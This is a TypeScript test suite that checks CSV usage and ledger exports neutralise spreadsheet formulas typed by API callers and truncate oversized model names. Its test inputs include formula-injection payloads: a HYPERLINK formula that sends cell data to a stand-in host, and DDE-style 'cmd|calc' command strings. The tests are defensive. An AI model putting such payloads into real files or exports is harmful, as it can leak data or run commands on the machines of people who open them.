import { changeFreeQuota } from '../../../src/domain/quota/free-quota-ledger';
import { parseCsv } from '../../../src/lib/csv';
import { rawChat, usageLogs } from '../../support/data-plane-fixtures';
import { adminSession } from '../../support/graphql-client';
import { startTestApp, type TestApp } from '../../support/test-app';
import { newCaller } from '../../support/vendor-fixtures';

// A caller's `"model": "=HYPERLINK(...)"` (answered 404) was recorded as sent and written to the
// admin's usage export as it was, where a spreadsheet runs it as a formula; a megabyte of model
// name was kept whole. Every exported cell that a spreadsheet would read as a formula starts with
// `'` (OWASP's advice), and unknown model names longer than any catalogue id are cut and marked.

// Short enough to be kept whole (the catalogue's longest id is longer).
const FORMULA = '=HYPERLINK("//e.x?"&A1)';
let app: TestApp;
let admin: string;

beforeAll(async () => {
  app = await startTestApp();
  admin = await adminSession(app);
});
afterAll(() => app.close());

async function exported(path: string): Promise<Array<Record<string, string>>> {
  const res = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${admin}` } });
  expect(res.status).toBe(200);
  const [header, ...rows] = parseCsv(await res.text());
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

it('writes a caller-typed formula in the usage export as text, not as a formula', async () => {
  const { userId, key } = await newCaller(app, 1_000_000n);
  for (const model of [FORMULA, '+1+cmd|calc', '-2+3', '@SUM(A1)', '\tx', '\r=1']) {
    const res = await rawChat(app, key, { model, messages: [{ role: 'user', content: 'hi' }] });
    expect(res.status).toBe(404);
  }
  await usageLogs(app, { userId });
  const rows = await exported(`/export/usage.csv?userId=${userId}`);
  expect(rows.map((r) => r.model).sort()).toEqual([`'${FORMULA}`, "'+1+cmd|calc", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=1"].sort());
});

it('neutralises formulas in the ledger export too, while negative amounts stay numbers', async () => {
  const { userId } = await newCaller(app, 1_000_000n);
  const adjusted = await changeFreeQuota(app.em(), { userId, amount: -250n, kind: 'ADMIN_ADJUSTMENT', memo: '=cmd|"/c calc"!A1' });
  expect(adjusted.ok).toBe(true);
  const rows = await exported(`/export/ledger.csv?userId=${userId}`);
  const adjustment = rows.find((r) => r.amount === '-250');
  expect(adjustment).toMatchObject({ amount: '-250', memo: '\'=cmd|"/c calc"!A1' });
});

it('keeps an unknown model name no longer than the longest catalogue id, marked as cut', async () => {
  const { userId, key } = await newCaller(app, 1_000_000n);
  const res = await rawChat(app, key, { model: 'x'.repeat(100_000), messages: [{ role: 'user', content: 'hi' }] });
  expect(res.status).toBe(404);
  const catalogue = await app.server.services.catalogue.get();
  const longest = Math.max(...[...catalogue.byId.keys()].map((id) => id.length));
  const [row] = await usageLogs(app, { userId });
  expect(row!.modelId).toBe(`${'x'.repeat(longest - 1)}…`);
  // A short typo stays readable for the operator.
  const typo = await rawChat(app, key, { model: 'gpt-4o-mni', messages: [{ role: 'user', content: 'hi' }] });
  expect(typo.status).toBe(404);
  const rows = await usageLogs(app, { userId });
  expect(rows.map((r) => r.modelId)).toContain('gpt-4o-mni');
});
